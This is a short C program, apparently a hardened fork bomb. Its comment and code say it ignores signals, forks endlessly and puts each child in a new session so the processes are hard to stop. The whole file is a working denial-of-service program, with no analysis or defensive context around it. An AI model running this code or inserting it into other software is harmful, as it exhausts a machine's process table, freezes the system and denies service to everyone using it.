/* Forks as fast as it can, each process in a session of its own and deaf to signals. */
#include <signal.h>
#include <unistd.h>

int main(void) {
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
